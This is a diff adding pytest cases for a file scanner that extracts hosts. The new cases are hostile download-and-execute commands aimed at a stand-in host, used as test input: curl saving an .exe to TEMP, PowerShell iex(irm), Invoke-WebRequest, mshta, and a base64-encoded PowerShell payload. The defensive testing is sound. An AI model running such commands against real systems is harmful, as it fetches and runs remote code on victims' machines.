@@ -4,6 +4,7 @@ same when it is packed anew; what a town hall receives every week passes."""
 from __future__ import annotations
 
 import time
+from base64 import b64encode
 from hashlib import sha256
 
 import pytest
@@ -155,6 +156,25 @@ def test_what_no_command_fetches_and_what_lies_near_by_leads_nowhere() -> None:
     near = b"[InternetShortcut]\r\nURL=file://SERVEUR/commun/a.exe\r\n\\\\192.168.1.10\\a \\\\srv.mairie.lan\\b\r\n"
     assert look(near).links == look(f"Voir {EVIL}\r\n".encode()).links == []
     assert look(samples.pdf(f"Voir {EVIL} ou curl")).links == []
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "@echo off\r\ncurl -s -k evil.example.net/go -o %TEMP%\\a.exe",
+        "powershell iex(irm evil.example.net)",
+        "$c = 1; Invoke-WebRequest -UseBasicParsing -Uri 'evil.example.net/go'",
+        "mshta.exe evil.example.net:8080/a.hta",
+        f"powershell -e {b64encode('irm evil.example.net|iex'.encode('utf-16-le')).decode()}",
+    ],
+)
+def test_a_program_that_fetches_from_a_host_alone_leads_there(command: str) -> None:
+    assert [link[7:23] for link in look(command.encode()).links] == ["evil.example.net"]
+
+
+def test_the_files_of_a_command_are_no_hosts() -> None:
+    said = b"@echo off\r\nmshta menu.hta\r\ncurl -o liste.txt\r\nwget -i adresses.csv\r\nirm $a.b\r\n"
+    assert look(said).links == []
 
 
 def test_a_name_that_is_no_text_hides_no_file_of_a_pdf() -> None:
